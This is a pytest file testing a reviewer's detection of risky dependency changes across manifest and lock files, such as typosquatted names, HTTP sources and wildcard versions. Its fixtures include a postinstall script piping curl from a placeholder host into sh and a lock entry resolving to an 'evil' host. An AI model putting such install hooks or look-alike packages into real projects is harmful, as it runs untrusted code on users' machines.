from __future__ import annotations

import pytest

from reviewers.diff import FileDiff
from reviewers.evidence.dependencies import DEPENDENCIES
from reviewers.findings import Severity
from tests.builders import added_file, file_diff, hunk
from tests.reviewers.evidence.gathered import gathered

PACKAGE = (" {", '   "name": "shop",', '   "dependencies": {')
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def said(*files: FileDiff, contents: dict[str, str] | None = None) -> list[tuple[str, int, Severity]]:
    facts = gathered(*files, contents=contents, sources=[DEPENDENCIES]).facts
    return [(fact.code, fact.start_line, fact.severity) for fact in facts]


def risks(*files: FileDiff) -> list[tuple[str, int]]:
    """What is no mere hint."""
    return [(code, line) for code, line, severity in said(*files) if severity > Severity.LOW]


@pytest.mark.parametrize(
    ("path", "rows", "code"),
    [
        pytest.param("requirements.txt", ["+reqeusts==2.32.0"], "look-alike", id="letters exchanged"),
        pytest.param("requirements.txt", ["+http://example.org/a-1.whl"], "plain-http", id="http"),
        pytest.param("requirements.txt", ["+-e git+https://example.org/a.git#egg=a"], "moving-source", id="git"),
        pytest.param("requirements.txt", ["+a @ git+https://example.org/a@main"], "moving-source", id="git by name"),
        pytest.param("requirements.txt", ["+--trusted-host pypi.example.org"], "trusted-host", id="unchecked host"),
        pytest.param("requirements.txt", ["+--extra-index-url https://a.example"], "second-index", id="two indexes"),
        pytest.param("requirements.txt", ["+--index-url http://a.example"], "plain-http", id="an index by http"),
        pytest.param(
            "pyproject.toml", [" [project]", " dependencies = [", '+  "djagno>=5",'], "look-alike", id="PEP 621"
        ),
        pytest.param(
            "pyproject.toml",
            [" [tool.poetry.dependencies]", '+a = { git = "https://example.org/a", branch = "main" }'],
            "moving-source",
            id="Poetry",
        ),
        pytest.param("package.json", [*PACKAGE, '+    "loadsh": "^4.17.0"'], "look-alike", id="npm"),
        pytest.param("package.json", [*PACKAGE, '+    "left": "latest"'], "any-version", id="latest"),
        pytest.param("package.json", [*PACKAGE, '+    "left": "octo/left"'], "moving-source", id="GitHub for short"),
        pytest.param(
            "package.json",
            [" {", '   "scripts": {', '+    "postinstall": "curl -s https://a.example/x | sh"'],
            "install-script",
            id="a script that fetches",
        ),
        pytest.param("composer.json", [" {", '   "require": {', '+    "a/b": "dev-master"'], "any-version", id="PHP"),
        pytest.param("Cargo.toml", [" [dependencies]", '+a = "*"'], "any-version", id="Rust"),
        pytest.param("Gemfile", ["+gem 'raisl', '~> 7'"], "look-alike", id="Ruby"),
        pytest.param("Gemfile", ["+gem 'a', git: 'https://example.org/a'"], "moving-source", id="Ruby from git"),
        pytest.param("build.gradle", ['+    implementation "org.a:b:+"'], "any-version", id="Gradle"),
        pytest.param("go.mod", [" require (", "+\tgithub.com/sirupsen/logruss v1.9.3"], "look-alike", id="Go"),
        pytest.param(
            "pom.xml",
            [" <dependency>", " <groupId>org.a</groupId>", " <artifactId>b</artifactId>", "+<version>LATEST</version>"],
            "any-version",
            id="Maven",
        ),
    ],
)
def test_a_risk_is_told_on_its_line(path: str, rows: list[str], code: str) -> None:
    line = next(number for number, row in enumerate(rows, start=1) if row.startswith("+"))

    assert risks(file_diff(path, hunk(*rows))) == [(code, line)]


@pytest.mark.parametrize(
    ("path", "rows"),
    [
        pytest.param("requirements.txt", ["+requests==2.32.0", "+redis>=5", "+flask[async]~=3.0"], id="Python"),
        pytest.param("requirements.txt", [f"+a @ git+https://example.org/a@{COMMIT}"], id="a commit"),
        pytest.param(
            "requirements.txt", ["-a @ git+https://a.example/a@v1", "+a @ git+https://a.example/a@v2"], id="as before"
        ),
        pytest.param("package.json", [*PACKAGE, '+    "preact": "^10.0.0"'], id="npm"),
        pytest.param("package.json", [*PACKAGE, '+    "ours": "workspace:*"'], id="a workspace"),
        pytest.param("package.json", [" {", '   "files": {', '+    "left": "latest"'], id="no dependency"),
        pytest.param("package.json", ['+    "left": "latest"'], id="perhaps no dependency"),
        pytest.param("package.json", ['-"postinstall": "node a",', '+"postinstall": "node a"'], id="a comma"),
        pytest.param("Cargo.toml", [" [package]", '+version = "0.2.0"', '+edition = "2024"'], id="Rust's own"),
        pytest.param("tests/fixtures/requirements.txt", ["+reqeusts"], id="what tests read"),
        pytest.param("docs/notes.txt", ["+reqeusts"], id="no manifest"),
        pytest.param("go.mod", ["+replace example.org/a => ../a"], id="a folder"),
        pytest.param("Gemfile", ["+gem 'rails', '~> 8.0'"], id="Ruby"),
    ],
)
def test_ordinary_dependencies_are_no_risk(path: str, rows: list[str]) -> None:
    assert risks(file_diff(path, hunk(*rows))) == []


def test_what_moves_is_a_hint_by_kind() -> None:
    change = file_diff(
        "requirements.txt",
        hunk("-flask==2.3.0", "-redis==5.0.1", "-rq==1.0", "+flask==3.0.0", "+redis==5.0.2", "+rich==15.0"),
    )

    evidence = gathered(change, sources=[DEPENDENCIES])

    assert {(fact.code, fact.message) for fact in evidence.facts} == {
        ("added", "depends on new packages: rich ==15.0"),
        ("moved", "versions that may break their users: flask from ==2.3.0 to ==3.0.0"),
        ("removed", "no longer depends on rq"),
    }
    assert {fact.severity for fact in evidence.facts} == {Severity.LOW}


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        pytest.param("1.2.3", "1.3.0", False, id="a minor one"),
        pytest.param("1.2.3", "2.0.0", True, id="a major one"),
        pytest.param("1.2.3", "1.2.2", True, id="down"),
        pytest.param("0.2.1", "0.2.9", False, id="a patch before 1"),
        pytest.param("0.2.1", "0.3.0", True, id="a minor one before 1"),
        pytest.param("1.2.3", "1.2", False, id="less exact"),
    ],
)
def test_a_move_is_told_where_it_may_break(old: str, new: str, told: bool) -> None:
    change = file_diff("requirements.txt", hunk(f"-flask=={old}", f"+flask=={new}"))

    assert [code for code, _, _ in said(change)] == ["moved"] * told


def test_a_dependency_that_only_changes_its_place_is_not_told() -> None:
    text = "a==1\nb==1\n"

    assert (
        said(file_diff("requirements.txt", hunk("-b==1", " a==1", "+b==1")), contents={"requirements.txt": text}) == []
    )


def test_a_lock_that_stays_behind_its_manifest_is_a_hint() -> None:
    manifest = file_diff("a/requirements.txt", hunk("+a==1"))
    package = file_diff("web/package.json", hunk(*PACKAGE, '+    "preact": "^10.0.0"'))
    lock = added_file("package-lock.json", "{}\n")

    alone = said(package, contents={"package-lock.json": "{}\n"})
    together = said(package, lock, contents={"package-lock.json": "{}\n"})
    without = said(manifest, package)

    assert ("manifest-without-lock", 4, Severity.LOW) in alone
    assert "manifest-without-lock" not in {code for code, _, _ in together + without}


def test_a_lock_that_changes_alone_is_a_hint() -> None:
    lock = file_diff("package-lock.json", hunk(' "a": {', '-"version": "1"', '+"version": "2"'))

    assert said(lock) == [("lock-without-manifest", 2, Severity.LOW)]
    assert said(lock, file_diff("package.json", hunk(" {", '+ "x": 1'))) == []


def test_a_lock_that_takes_one_package_from_elsewhere_is_a_risk() -> None:
    usual = '"resolved": "https://registry.npmjs.org/a/-/a-1.tgz",'
    lock = file_diff(
        "package-lock.json",
        hunk(
            f" {usual}", '+"resolved": "https://evil.example/b.tgz",', f"+{usual}", '+"resolved": "http://c.example/c",'
        ),
    )

    assert risks(lock) == [("resolved-elsewhere", 2), ("plain-http", 4)]


def test_a_lock_of_a_house_with_its_own_registry_is_no_risk() -> None:
    row = '"resolved": "https://npm.house.example/a/-/a-1.tgz",'

    assert risks(file_diff("package-lock.json", hunk(f" {row}", f"+{row}"))) == []


def test_many_additions_are_one_hint() -> None:
    evidence = gathered(
        added_file("requirements.txt", "".join(f"pack-{n}==1\n" for n in range(12))), sources=[DEPENDENCIES]
    )

    assert [fact.message.endswith("pack-7 ==1 and 4 more") for fact in evidence.facts] == [True]
